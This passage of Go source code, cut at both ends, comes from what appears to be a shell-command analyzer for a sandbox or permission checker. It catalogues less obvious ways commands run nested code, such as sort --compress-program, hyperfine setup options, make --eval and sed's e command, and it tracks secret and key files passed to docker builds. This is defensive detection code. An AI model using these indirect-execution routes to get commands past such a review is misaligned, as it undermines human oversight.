			if key == "toolexec" || key == "exec" {
				if err := r.scriptArg(idx, v, st, sc); err != nil {
					return err
				}
			} else {
				r.addPath(v, st, "exec", idx, "go")
			}
		}
	}
	return nil
}

// sortLongs are sort's long options beginning as --compress-program does.
var sortLongs = []string{"--check", "--compress-program"}

// sortCompressor: sort --compress-program=PROG runs PROG (no shell, no
// arguments; PROG -d to read back) with sort's data on its standard input
// whenever it spills to temporary files, as tar runs its -I program: a
// shell there runs the data.
func (r *run) sortCompressor(idx int, args []field, st *state, sc scope) error {
	for k := 0; k < len(args); k++ {
		a := args[k]
		if a.text == "--" {
			break
		}
		t := expandLong(a.text, sortLongs...)
		prog, ok := field{}, false
		if v, found := strings.CutPrefix(t, "--compress-program="); found {
			prog, ok = field{text: v, pattern: v, dynamic: a.dynamic}, true
		} else if t == "--compress-program" && k+1 < len(args) {
			k++
			prog, ok = args[k], true
		}
		if !ok {
			continue
		}
		if prog.dynamic {
			r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: "sort --compress-program " + prog.text, Cmd: idx})
			continue
		}
		if err := r.nestedIn(shellQuote(prog.text), st.clone(), sc, "nested-shell", stdin{kind: "pipe"}); err != nil {
			return err
		}
	}
	return nil
}

// hyperfineValued are hyperfine's options that take a value which is not a
// command line (and how many words it takes).
var hyperfineValued = map[string]int{"-w": 1, "--warmup": 1, "-m": 1, "--min-runs": 1, "-M": 1, "--max-runs": 1, "-r": 1, "--runs": 1,
	"-P": 3, "--parameter-scan": 3, "-D": 1, "--parameter-step-size": 1, "-L": 2, "--parameter-list": 2,
	"--style": 1, "--sort": 1, "-u": 1, "--time-unit": 1, "--output": 1, "--input": 1, "-n": 1, "--command-name": 1, "--min-benchmarking-time": 1}

// hyperfine runs each operand, and the values of --setup, --prepare,
// --cleanup and --conclude, as shell command lines; --export-* write
// files. A command with {parameter} placeholders, or run by another shell,
// is known only when hyperfine fills it in.
func (r *run) hyperfine(idx int, args []field, st *state, sc scope) error {
	params := false // placeholders filled in at run time, not known here
	var cmds []field
	var scans, lists [][]field // -P NAME MIN MAX, -L NAME V1,V2
	var step []field           // -D STEP
	for k := 0; k < len(args); k++ {
		t := args[k].text
		// --opt=value, -Xvalue (or -X=value): clap takes both
		opt, val, eq := strings.Cut(t, "=")
		if len(t) > 2 && t[0] == '-' && t[1] != '-' {
			opt, val, eq = t[:2], strings.TrimPrefix(t[2:], "="), true
		}
		switch {
		case args[k].dynamic && strings.HasPrefix(t, "-"):
			// which option, and so whether its value is a command line, is
			// known only when it runs
			r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: t, Cmd: idx})
			params = true
		case opt == "-S" || opt == "--shell":
			// another shell, given as a command line ("bash --norc") that
			// runs each command
			params = true
			if !eq && k+1 < len(args) {
				k++
				val = args[k].text
				if args[k].dynamic {
					r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: val, Cmd: idx})
					continue
				}
			}
			if val != "none" {
				cmds = append(cmds, field{text: val, pattern: val})
			}
		case opt == "-s" || opt == "--setup" || opt == "-p" || opt == "--prepare" || opt == "-c" || opt == "--cleanup" || opt == "--conclude":
			if eq {
				cmds = append(cmds, field{text: val, pattern: val})
			} else if k+1 < len(args) {
				k++
				cmds = append(cmds, args[k])
			}
		case strings.HasPrefix(opt, "--export-"):
			if eq {
				r.addPath(field{text: val, pattern: val}, st, "write", idx, "hyperfine")
			} else if k+1 < len(args) {
				k++
				r.addPath(args[k], st, "write", idx, "hyperfine")
			}
		case hyperfineValued[opt] > 0:
			n := hyperfineValued[opt]
			if eq || k+n >= len(args) {
				if opt == "-P" || opt == "--parameter-scan" || opt == "-L" || opt == "--parameter-list" || opt == "-D" || opt == "--parameter-step-size" {
					params = true // a definition not read here
				}
				if !eq {
					k += n
				}
				continue
			}
			vals := args[k+1 : k+1+n]
			k += n
			switch opt {
			case "-P", "--parameter-scan":
				scans = append(scans, vals)
			case "-L", "--parameter-list":
				lists = append(lists, vals)
			case "-D", "--parameter-step-size":
				step = append(step, vals[0])
			}
		case opt == "-N":
			params = true // no shell: split by hyperfine
		case strings.HasPrefix(t, "-") && t != "-":
		default:
			cmds = append(cmds, args[k])
		}
	}
	values, known := hyperfineParams(scans, lists, step)
	params = params || !known
	for _, c := range cmds {
		if c.dynamic || params && strings.Contains(c.text, "{") {
			r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: c.text, Cmd: idx})
			continue
		}
		lines, ok := fillParams(c.text, values)
		if !ok {
			r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: c.text, Cmd: idx})
			continue
		}
		for _, line := range lines {
			if err := r.nested(line, st, sc, "nested-shell"); err != nil {
				return err
			}
		}
	}
	return nil
}

// hyperfineParams reads hyperfine's parameter definitions: each name with
// the values that stand for all it takes. A -L list is its values; a -P
// scan takes numbers only (no "/" or "..": a command line filled with any
// of them has the same shape), so its two ends stand for it. false when a
// definition is not literal or not understood.
func hyperfineParams(scans, lists [][]field, step []field) (map[string][]string, bool) {
	out := map[string][]string{}
	for _, f := range append(append([]field{}, step...), allFields(scans, lists)...) {
		if f.dynamic {
			return nil, false
		}
	}
	if len(step) > 0 && !plainNumber(step[len(step)-1].text) {
		return nil, false
	}
	for _, sc := range scans {
		// plain decimals only: what hyperfine fills in between is then of
		// the same characters
		if !plainNumber(sc[1].text) || !plainNumber(sc[2].text) {
			return nil, false
		}
		lo, err1 := strconv.ParseFloat(sc[1].text, 64)
		hi, err2 := strconv.ParseFloat(sc[2].text, 64)
		if err1 != nil || err2 != nil || lo > hi {
			return nil, false
		}
		out[sc[0].text] = []string{sc[1].text, sc[2].text}
	}
	for _, l := range lists {
		if strings.ContainsRune(l[1].text, '\\') {
			return nil, false // escapes: not split here
		}
		out[l[0].text] = strings.Split(l[1].text, ",")
	}
	return out, true
}

// plainNumber says whether s is a decimal number: digits, a sign in front,
// a point (no exponent, no Inf or NaN, no hex).
func plainNumber(s string) bool {
	s = strings.TrimPrefix(strings.TrimPrefix(s, "-"), "+")
	whole, frac, dot := strings.Cut(s, ".")
	return whole != "" && isDigits(whole) && (!dot || frac != "" && isDigits(frac))
}

func allFields(groups ...[][]field) []field {
	var out []field
	for _, g := range groups {
		for _, fs := range g {
			out = append(out, fs...)
		}
	}
	return out
}

// fillParams is every command line text becomes with each combination of
// the parameters' values put in for their {NAME}; false past 64 of them.
func fillParams(text string, values map[string][]string) ([]string, bool) {
	lines := []string{text}
	for _, name := range slices.Sorted(maps.Keys(values)) {
		ph := "{" + name + "}"
		if !strings.Contains(text, ph) {
			continue
		}
		var next []string
		for _, l := range lines {
			for _, v := range values[name] {
				next = append(next, strings.ReplaceAll(l, ph, v))
			}
		}
		if len(next) > 64 {
			return nil, false
		}
		lines = next
	}
	return lines, true
}

// splitLongs are the long options of split and csplit, for expandArgs.
var splitLongs = []string{"--prefix", "--additional-suffix", "--suffix-format", "--bytes", "--lines", "--line-bytes", "--number",
	"--suffix-length", "--digits", "--filter", "--separator", "--numeric-suffixes", "--hex-suffixes", "--elide-empty-files", "--keep-files",
	"--suppress-matched", "--quiet", "--silent", "--verbose", "--unbuffered", "--help", "--version"}

// rsyncLongs are rsync's long options that take a value or share a prefix
// with one that runs a command, for getoptArgs.
var rsyncLongs = strings.Fields(`--rsh= --rsync-path= --filter= --exclude= --include= --exclude-from= --include-from=
--files-from= --password-file= --log-file= --log-file-format= --temp-dir= --partial-dir= --backup-dir= --suffix=
--compare-dest= --copy-dest= --link-dest= --chmod= --chown= --usermap= --groupmap= --timeout= --contimeout= --port=
--sockopts= --out-format= --block-size= --max-delete= --max-size= --min-size= --max-alloc= --modify-window=
--remote-option= --outbuf= --iconv= --checksum-choice= --compress-choice= --compress-level= --skip-compress=
--bwlimit= --stop-after= --stop-at= --write-batch= --only-write-batch= --read-batch= --protocol= --info= --debug=
--early-input= --address= --recursive --relative --remove-source-files --delete --delete-before --delete-during
--delete-delay --delete-after --delete-excluded --delay-updates --dry-run --archive --verbose --rsh-command`)

// makeLongs are GNU make's long options ("=": taking a value), for
// getoptArgs.
var makeLongs = strings.Fields(`--always-make --directory= --debug --environment-overrides --eval= --file=
--makefile= --help --ignore-errors --include-dir= --jobs --keep-going --load-average --max-load
--check-symlink-times --just-print --dry-run --recon --assume-old= --old-file= --output-sync
--print-data-base --question --no-builtin-rules --no-builtin-variables --shuffle --silent --quiet
--no-silent --stop --no-keep-going --touch --trace --version --print-directory --no-print-directory
--what-if= --new-file= --assume-new= --warn-undefined-variables`)

// makeVars handles make's NAME=VALUE arguments and --eval: variables such
// as SHELL or CC name programs make runs; --eval adds makefile code.
func (r *run) makeVars(idx int, args []field, st *state, sc scope) error {
	// make -sE'…', --ev=…, --fi=-: options as getopt_long reads them
	args = getoptArgs(args, "C:f:I:j::l::o:W:E:O::", makeLongs)
	for k, a := range args {
		t := a.text
		switch {
		case t == "--eval" || t == "-E" || strings.HasPrefix(t, "--eval="):
			r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: "make " + t, Cmd: idx})
		case (t == "--file" || t == "--makefile" || len(t) > 1 && t[0] == '-' && t[1] != '-' && strings.HasSuffix(t, "f")) && k+1 < len(args) && (args[k+1].text == "-" || isStdinPath(args[k+1].text) || args[k+1].proc),
			strings.HasPrefix(t, "-f") && len(t) > 2 && (t[2:] == "-" || isStdinPath(t[2:])),
			strings.HasPrefix(t, "--file=-"), strings.HasPrefix(t, "--makefile=-"), strings.HasPrefix(t, "--file=/dev/"), strings.HasPrefix(t, "--makefile=/dev/"):
			// make -f - <<< 'x:; cmd': recipes from the input (or a
			// process substitution) that nobody saw as a file
			r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: "make reads a makefile from its input", Cmd: idx})
		case strings.HasPrefix(t, ".SHELLFLAGS=") || strings.HasPrefix(t, "MAKESHELL="):
			r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: t, Cmd: idx})
		case !strings.HasPrefix(t, "-") && isAssignWord(t):
			name, val, _ := strings.Cut(t, "=")
			if name == ".SHELLFLAGS" {
				r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: t, Cmd: idx})
				continue
			}
			if r.a.execSinks[name] {
				if a.dynamic {
					r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: t, Cmd: idx})
					continue
				}
				if err := r.nested(sinkCommand(name, val), st, sc, "nested-shell"); err != nil {
					return err
				}
			}
		}
		_ = k
	}
	// a makefile the script itself wrote (printf 'all:\n\tCMD' > Makefile;
	// make, tar xf m.tar; make): its recipes are the script's own code,
	// which this analysis does not read as recipes
	dir := st.cwd
	makefiles := []string{"GNUmakefile", "makefile", "Makefile"}
	for k, a := range args {
		switch {
		case (a.text == "-C" || a.text == "--directory") && k+1 < len(args):
			dir = path.Join(dir, args[k+1].text)
			if strings.HasPrefix(args[k+1].text, "/") {
				dir = args[k+1].text
			}
		case (a.text == "-f" || a.text == "--file" || a.text == "--makefile") && k+1 < len(args):
			makefiles = append(makefiles, args[k+1].text)
		}
	}
	for _, m := range makefiles {
		p := m
		if !strings.HasPrefix(p, "/") {
			p = dir + "/" + m
		}
		if _, ok := r.written[p]; ok || r.scriptWrote(p) {
			r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: "make runs the recipes of " + m + ", which the same command wrote", Cmd: idx})
			break
		}
	}
	return nil
}

// sedScript finds the files a sed script itself reads or writes (the r, R,
// w, W commands and the w flag of s) and its e command, which runs the
// pattern space as a shell command.
// sedLongs are GNU sed's long options, for expandArgs.
var sedLongs = strings.Fields(`--quiet --silent --debug --expression --file --follow-symlinks --in-place
--line-length --null-data --zero-terminated --posix --regexp-extended --sandbox --separate --unbuffered
--binary --help --version`)

func (r *run) sedScript(idx int, name string, args []field, st *state, in stdin) {
	var scripts []field
	explicit := false
	// fromFile: sed -f FILE. Its commands (e, w …) are read as -e text is
	// when known: literal stdin, a file the script wrote, or a small file
	// on disk; otherwise they are a script nobody saw.
	fromFile := func(f field) {
		switch {
		case (isStdinPath(f.text) || f.text == "-") && in.literal != nil:
			scripts = append(scripts, field{text: *in.literal, pattern: *in.literal})
			return
		case f.proc || f.dynamic || isStdinPath(f.text) || f.text == "-":
		default:
			// a regular file only (a FIFO would block the analysis); not
			// one an earlier command changes unseen, nor one in /tmp,
			// which in the box is another directory
			p := r.classifyPath(f, st, "read", idx, name)
			if text, ok := r.knownText(p.Real, idx); ok {
				scripts = append(scripts, field{text: text, pattern: text})
				return
			}
		}
		r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: "sed -f " + f.text, Cmd: idx})
	}
	// GNU sed's options as getopt_long reads them: short options
	// clustered (-ne'1e cmd', -nf FILE), a value attached or in the next
	// argument, long options abbreviated to a unique prefix
	// (--expr=…, --fi FILE)
	args = expandArgs(args, sedLongs...)
	script := func(f field) {
		scripts = append(scripts, f)
		explicit = true
	}
	value := func(k int, attached string, f field) (field, int, bool) {
		if attached != "" {
			return field{text: attached, pattern: attached, dynamic: f.dynamic}, k, true
		}
		if k+1 < len(args) {
			return args[k+1], k + 1, true
		}
		return field{}, k, false
	}
	operands := false
	for k := 0; k < len(args); k++ {
		a := args[k]
		t := a.text
		switch {
		case operands || t == "-" || !strings.HasPrefix(t, "-"):
			if !explicit {
				script(a)
			}
		case t == "--":
			operands = true
		case strings.HasPrefix(t, "--"):
			key, val, eq := strings.Cut(t, "=")
			switch key {
			case "--expression", "--file", "--line-length":
				v, next, ok := value(k, val, a)
				if eq {
					v, next, ok = field{text: val, pattern: val, dynamic: a.dynamic}, k, true
				}
				k = next
				if !ok {
					continue
				}
				switch key {
				case "--expression":
					script(v)
				case "--file":
					explicit = true
					fromFile(v)
				}
			}
		default:
			// a cluster of short options
			for j := 1; j < len(t); j++ {
				c := t[j]
				if c == 'i' {
					break // -i[SUFFIX]: the rest of the cluster is its suffix
				}
				if c != 'e' && c != 'f' && c != 'l' {
					continue
				}
				v, next, ok := value(k, t[j+1:], a)
				k = next
				if ok && c == 'e' {
					script(v)
				} else if ok && c == 'f' {
					explicit = true
					fromFile(v)
				}
				break
			}
		}
	}
	for _, s := range scripts {
		if s.dynamic {
			if strings.HasPrefix(s.pattern, "*") {
				// sed "$(cat s.txt)": not even the first command is known
				r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: s.text, Cmd: idx})
			}
			continue
		}
		for _, c := range sedCommands(s.text) {
			switch c[0] {
			case 'r', 'R', 'w', 'W':
				// the file name follows, blanks before it optional (1w/x)
				if len(c) > 1 {
					file := strings.TrimSpace(c[1:])
					access := "read"
					if c[0] == 'w' || c[0] == 'W' {
						access = "write"
					}
					if file != "" && !isStdinPath(file) && file != "/dev/stdout" && file != "/dev/stderr" {
						r.addPath(field{text: file, pattern: file}, st, access, idx, name)
					}
				}
			case 'e':
				// e runs the pattern space, eCMD or e CMD runs CMD
				r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: "sed " + c, Cmd: idx})
			case 's':
				if len(c) < 2 {
					continue
				}
				delim := c[1]
				parts, i := 0, 2
				for i < len(c) && parts < 2 {
					if c[i] == '\\' {
						i += 2
						continue
					}
					if c[i] == delim {
						parts++
					}
					i++
				}
				flags := c[min(i, len(c)):]
				if w := strings.IndexByte(flags, 'w'); w >= 0 {
					if file := strings.TrimSpace(flags[w+1:]); file != "" && file != "/dev/stdout" && file != "/dev/stderr" {
						r.addPath(field{text: file, pattern: file}, st, "write", idx, name)
					}
					flags = flags[:w]
				}
				if strings.ContainsRune(flags, 'e') {
					r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: "sed s///e", Cmd: idx})
				}
			}
		}
	}
}

// sedCommands splits a sed script into its commands, addresses dropped:
// at ";" and newlines, except that a, i and c take the rest of their line
// as text, and the lines after one ending in a backslash too.
func sedCommands(script string) []string {
	var out []string
	inText := false
	for _, line := range strings.Split(script, "\n") {
		if inText {
			inText = strings.HasSuffix(line, "\\")
			continue
		}
		for _, part := range strings.Split(line, ";") {
			c := strings.TrimLeft(sedSkipAddress(strings.TrimSpace(part)), "{ \t")
			if c == "" {
				continue
			}
			if c[0] == 'a' || c[0] == 'i' || c[0] == 'c' {
				inText = strings.HasSuffix(line, "\\")
				break // the rest of the line is its text
			}
			out = append(out, c)
		}
	}
	return out
}

// sedSkipAddress drops a sed command's address: line numbers, $, first~step,
// addr,+N, /re/ and \cREc (escaped delimiters inside), the I and M flags
// after a regex, ranges, and !.
func sedSkipAddress(c string) string {
	for len(c) > 0 {
		switch ch := c[0]; {
		case ch >= '0' && ch <= '9', ch == '$', ch == ',', ch == '!', ch == ' ', ch == '\t', ch == '~', ch == '+':
			c = c[1:]
			continue
		case ch == '/' || ch == '\\' && len(c) > 1:
			delim, i := byte('/'), 1
			if ch == '\\' {
				delim, i = c[1], 2
			}
			for i < len(c) && c[i] != delim {
				if c[i] == '\\' {
					i++
				}
				i++
			}
			if i >= len(c) {
				return "" // an unterminated regex: no command to read
			}
			c = c[i+1:]
			for len(c) > 0 && (c[0] == 'I' || c[0] == 'M') {
				c = c[1:]
			}
			continue
		}
		break
	}
	return c
}

// container handles docker/podman arguments that are host paths: bind
// mounts (read and written by the container), docker cp, build files.
func (r *run) container(idx int, name string, args []field, st *state) {
	hostPath := func(s string) bool {
		return strings.HasPrefix(s, "/") || strings.HasPrefix(s, "~") || strings.HasPrefix(s, ".") || strings.HasPrefix(s, "$")
	}
	// a bind is written through unless it is read-only (-v SRC:DST:ro,
	// --mount …,readonly); a dynamic spec may be either
	bind := func(spec field) {
		src, access := spec.text, "write"
		if strings.Contains(src, "=") {
			// --mount type=bind,src=/x,dst=/y[,readonly]
			src = ""
			for _, kv := range strings.Split(spec.text, ",") {
				k, v, _ := strings.Cut(kv, "=")
				switch {
				case k == "src" || k == "source":
					src = v
				case (k == "readonly" || k == "ro") && (v == "" || v == "true" || v == "1") && !spec.dynamic:
					access = "read"
				}
			}
		} else if parts := strings.Split(src, ":"); len(parts) > 0 {
			src = parts[0]
			if len(parts) == 3 && !spec.dynamic && slices.Contains(strings.Split(parts[2], ","), "ro") {
				access = "read"
			}
		}
		if src != "" && hostPath(src) {
			r.addPath(field{text: src, pattern: src, dynamic: spec.dynamic}, st, access, idx, name)
		}
	}
	// build --secret id=X,src=FILE and --ssh ID=FILE[,FILE] hand the
	// files to the build (the Dockerfile reads them); --secret env=VAR and
	// --ssh default (the agent's socket) name no file.
	buildSecret := func(opt string, spec field) {
		read := func(p string) {
			r.addPath(field{text: p, pattern: p, dynamic: spec.dynamic}, st, "read", idx, name)
		}
		for i, kv := range strings.Split(spec.text, ",") {
			k, v, ok := strings.Cut(kv, "=")
			switch {
			case opt == "--secret":
				if ok && v != "" && (k == "src" || k == "source") {
					read(v)
				}
			case ok && v != "":
				read(v) // --ssh ID=FILE
			case !ok && i > 0 && kv != "":
				read(kv) // --ssh ID=FILE,FILE
			}
		}
	}
	// build -o/--output dest=DIR (or a plain path) and --iidfile,
	// --metadata-file write where they name; "-" is stdout.
	buildOutput := func(spec field) {
		dest := spec.text
		if strings.Contains(dest, "=") {
			dest = ""
			for _, kv := range strings.Split(spec.text, ",") {
				if k, v, _ := strings.Cut(kv, "="); k == "dest" {
					dest = v
				}
			}
		}
		if dest != "" && dest != "-" {
			r.addPath(field{text: dest, pattern: dest, dynamic: spec.dynamic}, st, "write", idx, name)
		}
	}
	sub := ""
	var ops []field
	for k := 0; k < len(args); k++ {
		a := args[k]
		t := a.text
		if (sub == "exec" || sub == "run") && len(ops) == 1 {
			ops = append(ops, args[k:]...) // after the container: the command, verbatim
			break
		}
		switch {
		case sub == "" && globalValueWords(name, t) > 0 && k+1 < len(args):
			// the engine's own options: key and certificate files are read
			// (podman --out writes what the command prints)
			switch t {
			case "--tlscacert", "--tlscert", "--tlskey", "--identity", "--config":
				r.addPath(args[k+1], st, "read", idx, name)
			case "--out":
				r.addPath(args[k+1], st, "write", idx, name)
			}
			k++
		case (sub == "buildx" || sub == "builder") && len(ops) == 0 && t == "--builder" && k+1 < len(args):
			k++ // docker buildx --builder NAME build …
		case building(sub, ops) && (t == "--build-context" || strings.HasPrefix(t, "--build-context=")):
			// --build-context NAME=DIR sends DIR like the main context
			spec := field{}
			if v, ok := strings.CutPrefix(t, "--build-context="); ok {
				spec = field{text: v, pattern: v, dynamic: a.dynamic}
			} else if k+1 < len(args) {
				spec = args[k+1]
				k++
			}
			if _, v, ok := strings.Cut(spec.text, "="); ok && v != "" && !strings.Contains(v, "://") {
				r.addPath(field{text: v, pattern: v, dynamic: spec.dynamic}, st, "read", idx, name)
			}
		case (t == "-v" || t == "--volume" || t == "--mount") && k+1 < len(args):
			bind(args[k+1])
			k++
		case strings.HasPrefix(t, "--volume=") || strings.HasPrefix(t, "--mount="):
			_, v, _ := strings.Cut(t, "=")
			bind(field{text: v, pattern: v, dynamic: a.dynamic})
		case strings.HasPrefix(t, "-v") && len(t) > 2:
			bind(field{text: t[2:], pattern: t[2:], dynamic: a.dynamic})
		case (t == "-f" || t == "--file" || t == "--env-file") && k+1 < len(args) && sub != "":
			r.addPath(args[k+1], st, "read", idx, name)
			k++
		case strings.HasPrefix(t, "--env-file=") || strings.HasPrefix(t, "--file="):
			_, v, _ := strings.Cut(t, "=")
			r.addPath(field{text: v, pattern: v, dynamic: a.dynamic}, st, "read", idx, name)
		case building(sub, ops) && (t == "-o" || t == "--output" || t == "--iidfile" || t == "--metadata-file") && k+1 < len(args):
			buildOutput(args[k+1])
			k++
		case building(sub, ops) && (strings.HasPrefix(t, "--output=") || strings.HasPrefix(t, "--iidfile=") || strings.HasPrefix(t, "--metadata-file=")):
			_, v, _ := strings.Cut(t, "=")
			buildOutput(field{text: v, pattern: v, dynamic: a.dynamic})
		case building(sub, ops) && strings.HasPrefix(t, "-o") && len(t) > 2:
			buildOutput(field{text: t[2:], pattern: t[2:], dynamic: a.dynamic})
		case building(sub, ops) && buildValueOpts[t] && k+1 < len(args):
			k++
		case (t == "--secret" || t == "--ssh") && k+1 < len(args):
			buildSecret(t, args[k+1])
			k++
		case strings.HasPrefix(t, "--secret=") || strings.HasPrefix(t, "--ssh="):
			o, v, _ := strings.Cut(t, "=")
			buildSecret(o, field{text: v, pattern: v, dynamic: a.dynamic})
		case strings.HasPrefix(t, "-") && !strings.Contains(t, "=") && containerValueOpts[t] && k+1 < len(args):
			k++ // -u USER, -w DIR, -e VAR, --name N …
		case strings.HasPrefix(t, "-"):
		case sub == "":
			sub = t
		default:
			ops = append(ops, a)
		}
	}
	// A build sends its context directory to the builder whole: a read of
	// every file below (readsTree), unless it is "-" (stdin) or a URL.
	if ctx, ok := buildContext(sub, ops); ok && ctx.text != "-" && !remote(ctx.text) && !strings.Contains(ctx.text, "://") {
		r.addPath(ctx, st, "read", idx, name)
	}
	// A container's own command runs inside it, against its own files: only
	// bind mounts, build contexts and copies touch the host, handled above.
	if sub == "cp" && len(ops) == 2 {
		for i, o := range ops {
			if remote(o.text) {
				continue // container:path
			}
			access := "read"
			if i == 1 {
				access = "write"
			}
			r.addPath(o, st, access, idx, name)
		}
	}
}

var unknownItem = field{text: "{input}", pattern: "*", dynamic: true, subst: true, leadOpen: true}

// inputItems is what a command reading its stdin as a list gets: literal
// input split into words (or lines), paths below a path-listing producer's
// operands written "dir/{}", nothing for no input, and one unknown item
// otherwise (known is false then).
func (r *run) inputItems(in stdin, lines bool) ([]field, bool) {
	switch {
	case in.literal != nil:
		var words []string
		if lines {
			words = strings.Split(strings.TrimRight(*in.literal, "\n"), "\n")
		} else {
			words = strings.Fields(*in.literal)
		}
		items := make([]field, 0, len(words))
		for _, w := range words {
			items = append(items, field{text: w, pattern: w})
		}
		return items, true
	case (in.kind == "pipe" || in.kind == "procsubst") && pathListers[in.from]:
		if in.from == "ls" && in.fromIdx >= 0 && in.fromIdx < len(r.facts.Commands) && lsShowsDots(r.facts.Commands[in.fromIdx].Argv[1:]) {
			// ls -a prints "." and "..": not only entries below
			return []field{unknownItem}, false
		}
		var items []field
		for _, p := range r.facts.Paths {
			if p.Cmd != in.fromIdx || p.Access == "cwd" || p.Access == "write" {
				continue
			}
			if p.Zone == "unknown" {
				return []field{unknownItem}, false
			}
			dir := strings.TrimRight(p.Abs, "/")
			items = append(items, field{text: dir + "/{}", pattern: dir + "/*", glob: true, allEntries: r.listsWhole(in), named: r.findNamedAt(in.fromIdx), noLinks: r.noLinksAt(in.fromIdx), findNames: r.findNamesAt(in.fromIdx), listed: r.entriesAt(in), tracked: r.trackedAt(in)})
		}
		if items == nil {
			items = []field{{text: "./{}", pattern: "./*", glob: true, allEntries: r.listsWhole(in), named: r.findNamedAt(in.fromIdx), noLinks: r.noLinksAt(in.fromIdx), findNames: r.findNamesAt(in.fromIdx), listed: r.entriesAt(in), tracked: r.trackedAt(in)}}
		}
		return items, true
	case in.kind == "":
		return []field{}, true // no input: the sandbox gives /dev/null
	}
	return []field{unknownItem}, false
}

// numbersFrom says whether in is the output of a command that prints only
// numbers or names without "/" or "..": seq, nproc, id, pgrep … with
// static arguments holding neither.
func numbersFrom(in stdin, cmds []Command) bool {
	switch in.from {
	case "seq", "nproc", "id", "pgrep", "pidof", "whoami", "uname", "arch":
	default:
		return false
	}
	if in.fromIdx < 0 || in.fromIdx >= len(cmds) || cmds[in.fromIdx].Dynamic {
		return false
	}
	for _, a := range cmds[in.fromIdx].Argv[1:] {
		if strings.Contains(a, "..") || strings.Contains(a, "/") {
			return false
		}
	}
	return true
}

// entersDirs says whether a command given a directory as an operand goes
// into it: cd and the like, the commands that copy, move, pack or walk a
// tree, and any command with a recursive option (-r, -R, -a,
// --recursive, --archive). ls and du only name what is in it.
func entersDirs(argv []field) bool {
	switch base(argv[0].text) {
	case "ls", "du", "stat", "file", "echo", "printf", "test", "[":
		return false
	case "cd", "pushd", "find", "tar", "bsdtar", "zip", "rsync", "mv", "7z", "scp", "cpio", "pax", "tree", "chown", "chmod", "chgrp", "rm":
		return true
	}
	for _, a := range argv[1:] {
		t := a.text
		if t == "--recursive" || t == "--archive" || t == "--dereference-recursive" ||
			len(t) > 1 && t[0] == '-' && t[1] != '-' && strings.ContainsAny(t, "rRa") {
			return true
		}
	}
	return false
}

// unzipMembers adds the names the zip archive unzip extracts holds (the
// first operand, into -d DIR or the working directory), when it can be
// read and the command names no members of its own; it says whether it
// could.
func (r *run) unzipMembers(idx int, name string, args []field, st *state) bool {
	var archive *field
	dir := st.cwd
	for k := 0; k < len(args); k++ {
		a := args[k]
		switch {
		case a.dynamic:
			return false
		case a.text == "-d" && k+1 < len(args):
			k++
			if args[k].dynamic {
				return false
			}
			dir = path.Join(st.cwd, args[k].text)
			if strings.HasPrefix(args[k].text, "/") {
				dir = args[k].text
			}
		case a.text == "-x":
			k = len(args) // exclusions follow: fewer members, never more
		case strings.HasPrefix(a.text, "-d") && len(a.text) > 2:
			// -dDIR: unzip takes the value glued too
			d := a.text[2:]
			dir = path.Join(st.cwd, d)
			if strings.HasPrefix(d, "/") {
				dir = d
			}
		case strings.HasPrefix(a.text, "-") && !strings.HasPrefix(a.text, "--") && strings.ContainsRune(a.text[1:], 'd'):
			return false // -od DIR and the like: where it lands is not read here
		case strings.HasPrefix(a.text, "-"):
		case archive == nil:
			archive = &args[k]
		default:
			return false // members named (patterns too): the archive's to say
		}
	}
	if archive == nil || dir == "" {
		return false
	}
	p := r.classifyPath(*archive, st, "read", idx, name)
	if p.Glob || r.scriptWrote(p.Real) {
		return false
	}
	ms, ok := archiveMembers(p.Real)
	if ok {
		r.extractMembers(idx, name, ms, dir, 0, &state{cwd: dir, vars: st.vars})
	}
	return ok
}

// gitPatchWrites adds what git apply or git am writes: the files their
// patches name, from the work tree's top (--directory=DIR below it), or,
// when a patch's text is not known, a script nobody saw (it may write git
// hooks' neighbours, the agent's settings, any file).
func (r *run) gitPatchWrites(idx int, sub string, rest []field, texts []string, known bool, st *state) {
	if st.cwd == "" || !known {
		r.opaqueWrites(idx, "git "+sub+" of a patch the analysis cannot read")
		return
	}
	dir := st.cwd
	if root := workTree(st.cwd); root != "" && sub == "am" {
		dir = root
	}
	for k := 0; k < len(rest); k++ {
		t := rest[k].text
		key, val, eq := strings.Cut(t, "=")
		if len(key) >= 5 && strings.HasPrefix("--directory", key) {
			// --directory=DIR, --dir DIR: git takes a unique prefix
			if !eq && k+1 < len(rest) {
				k++
				val = rest[k].text
				eq = !rest[k].dynamic
			}
			if !eq || rest[k].dynamic {
				r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: "git " + sub + " " + t, Cmd: idx})
				return
			}
			dir = path.Join(dir, val)
		}
	}
	strip := patchStrip(rest)
	if strip == -1 {
		strip = 1
	}
	for _, text := range texts {
		if !r.patchWrites(idx, "git", text, dir, strip, st) {
			// a patch git applies whose names are not read here
			r.opaqueWrites(idx, "git "+sub+" of a patch whose names the analysis does not read")
			return
		}
	}
}

// opaqueWrites records that command idx writes files whose names the
// analysis cannot read (a patch or an archive it cannot open): inside a
// sandbox the box guards the git hooks and the agent's settings they could
// name; outside one a person is asked (ask.unsandboxed_code).
func (r *run) opaqueWrites(idx int, what string) {
	r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "opaque_writes", Text: what, Cmd: idx})
}

// fdValueOpts are fd's options that take a value in the next argument.
var fdValueOpts = map[string]bool{"-e": true, "--extension": true, "-t": true, "--type": true, "-E": true, "--exclude": true,
